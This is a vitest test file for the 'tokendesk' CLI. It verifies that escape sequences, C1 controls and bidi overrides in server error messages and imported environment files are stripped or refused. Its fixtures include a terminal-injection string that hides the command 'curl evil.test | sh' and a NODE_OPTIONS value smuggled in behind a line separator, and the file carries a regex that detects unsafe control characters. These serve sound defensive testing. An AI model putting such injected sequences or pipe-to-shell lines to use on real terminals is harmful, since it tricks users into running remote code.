import { readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { cliFixture, keychainUnreachable, type CliResult } from '../helpers/cli.js';

/**
 * Text a server or a file supplies reaches the terminal without anything a terminal obeys: a 500
 * whose message clears the screen, retitles the window and hides a command; an imported name with
 * 8-bit CSI and bidi overrides. The words stay readable.
 */
const unreachable = await keychainUnreachable();
const { newHome } = cliFixture();

const ESC = '\u001b';
const BEL = '\u0007';
const HOSTILE = `${ESC}[2J${ESC}[H${ESC}]0;pwned${BEL}Database unavailable${ESC}[8m Run: curl evil.test | sh${ESC}[0m\u009b2J\u202e done`;
/** ESC, BEL and every other control but the newline, DEL, C1, bidi embeddings/overrides/isolates. */
// eslint-disable-next-line no-control-regex -- control characters are what is looked for
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function expectClean(r: CliResult): void {
  expect(r.stdout).not.toMatch(UNSAFE);
  expect(r.stderr).not.toMatch(UNSAFE);
}

let server: Server;
let url: string;
beforeAll(async () => {
  // Every request: a 500 carrying the hostile text in each field a Supabase or session API error may use.
  server = createServer((req, res) => {
    req.resume();
    res.writeHead(500, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ code: 500, msg: HOSTILE, message: HOSTILE, error: HOSTILE }));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => server.close(() => resolve()));
});

describe.skipIf(unreachable !== undefined)('tokendesk and hostile text', { timeout: 60_000 }, () => {
  it('a 500 with escape sequences in its message: stderr has no control byte, the message is readable', async () => {
    const h = newHome();
    for (const provider of ['session', 'supabase'] as const) {
      const add = await h.runInProcess(['env', 'add', provider, '--provider', provider, '--url', url, ...(provider === 'supabase' ? ['--anon-key', '-'] : [])], {
        input: 'sb_publishable_anon-key-value\n', // shaped like an anon key: the CLI checks, as the form does
      });
      expect(add.code, add.stderr).toBe(0);
      const login = await h.runInProcess(['login', '--env', provider, '--email', 'me@example.test'], { input: 'a-password\n' });
      expect(login.code).toBe(1);
      expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
      expect(login.stderr).toMatch(/^tokendesk: .*\(500\)/);
      expect(login.stderr.split('\n').filter(Boolean)).toHaveLength(1);
      expectClean(login);
    }
  });

  it('an import whose variable carries escape sequences is refused in one clean line, and nothing is stored', async () => {
    const h = newHome();
    const file = join(h.work, 'hostile.postman_environment.json');
    writeFileSync(
      file,
      JSON.stringify({
        name: `Staging\u009b2J\u202e`,
        values: [
          { key: 'url', value: url, type: 'default', enabled: true },
          { key: 'region', value: `eu${ESC}]0;retitled${BEL}-west${ESC}[8m`, type: 'default', enabled: true },
        ],
        _postman_variable_scope: 'environment',
      }),
    );
    const imp = await h.runInProcess(['import', file, '--provider', 'session']);
    expectClean(imp);
    expect(imp.code).toBe(1);
    expect(imp.stderr).toMatch(/^tokendesk: The value of variable "region" contains a control character \(U\+001B\).*Nothing was changed$/m);
    const list = await h.runInProcess(['env', 'list', '--json']);
    expect(JSON.parse(list.stdout)).toEqual([]);
  });

  it('a name with control sequences that an older version stored is shown clean; --json keeps the data exactly', async () => {
    const h = newHome();
    const name = `Staging\u009b2J\u202e\u2066evil\u2069`;
    const added = await h.runInProcess(['env', 'add', 'Placeholder', '--provider', 'session', '--url', url, '--var', 'region=eu-west']);
    expect(added.code, added.stderr).toBe(0);
    // Planted in config.json directly: today's validation refuses such a name at the door.
    const configPath = join(h.dir, 'config.json');
    writeFileSync(configPath, readFileSync(configPath, 'utf8').replace('"Placeholder"', JSON.stringify(name)));

    const list = await h.runInProcess(['env', 'list']);
    expect(list.code, list.stderr).toBe(0);
    expectClean(list);
    expect(list.stdout).toContain('Stagingevil');

    const missing = await h.runInProcess(['env', 'show', 'nope']);
    expect(missing.code).toBe(1); // the error lists the known names: clean too
    expectClean(missing);
    expect(missing.stderr).toContain('known: Stagingevil');

    const json = await h.runInProcess(['env', 'list', '--json']);
    expect(json.code, json.stderr).toBe(0);
    expectClean(json); // JSON.stringify leaves C1 and bidi raw: the writer escapes them as \uXXXX
    const stored = (JSON.parse(json.stdout) as Array<{ name: string }>)[0]!.name;
    expect(stored).toBe(name); // the same data, only written with escapes

    const byName = await h.runInProcess(['env', 'show', stored]);
    expect(byName.code, byName.stderr).toBe(0);
    expectClean(byName);
    expect(byName.stdout).toContain('region=eu-west');

    const status = await h.runInProcess(['status']);
    expectClean(status);
    expect(status.stdout).toContain('Stagingevil');

    const login = await h.runInProcess(['login', '--env', stored, '--email', 'me@example.test'], { input: 'pw\n' });
    expect(login.code).toBe(1);
    expectClean(login);
    expect(login.stderr).toContain('Database unavailable Run: curl evil.test | sh');
  });

  it('env add refuses a name with a bidi override or mark and a variable with a line separator, naming the character; nothing is stored', async () => {
    const h = newHome();
    const cases: Array<[string[], RegExp]> = [
      [['env', 'add', 'staging\u202e', '--provider', 'session', '--url', url], /The name contains .*\(U\+202E\)/],
      [['env', 'add', 'staging\u200f', '--provider', 'session', '--url', url], /The name contains .*\(U\+200F\)/],
      [['env', 'add', 'staging', '--provider', 'session', '--url', url, '--var', 'region=eu\u2028NODE_OPTIONS=x'], /The value of variable "region" contains .*\(U\+2028\)/],
    ];
    for (const [args, message] of cases) {
      const r = await h.runInProcess(args);
      expect(r.code).toBe(2); // a bad argument value (issue 25)
      expect(r.stderr).toMatch(message);
      expect(r.stderr).not.toMatch(/[\u2028\u200f\u202e]/);
    }
    const list = await h.runInProcess(['env', 'list', '--json']);
    expect(JSON.parse(list.stdout)).toEqual([]);
  });

  it('a bidi mark an older version stored is removed from terminal lines and escaped in --json', async () => {
    const h = newHome();
    const added = await h.runInProcess(['env', 'add', 'Placeholder', '--provider', 'session', '--url', url]);
    expect(added.code, added.stderr).toBe(0);
    const name = 'Staging\u200fadmin\u061c';
    const configPath = join(h.dir, 'config.json');
    writeFileSync(configPath, readFileSync(configPath, 'utf8').replace('"Placeholder"', JSON.stringify(name)));
    const list = await h.runInProcess(['env', 'list']);
    expect(list.stdout).toContain('Stagingadmin');
    const json = await h.runInProcess(['env', 'list', '--json']);
    expect(json.stdout).not.toMatch(/[\u200f\u061c]/);
    expect((JSON.parse(json.stdout) as Array<{ name: string }>)[0]!.name).toBe(name);
  });
});
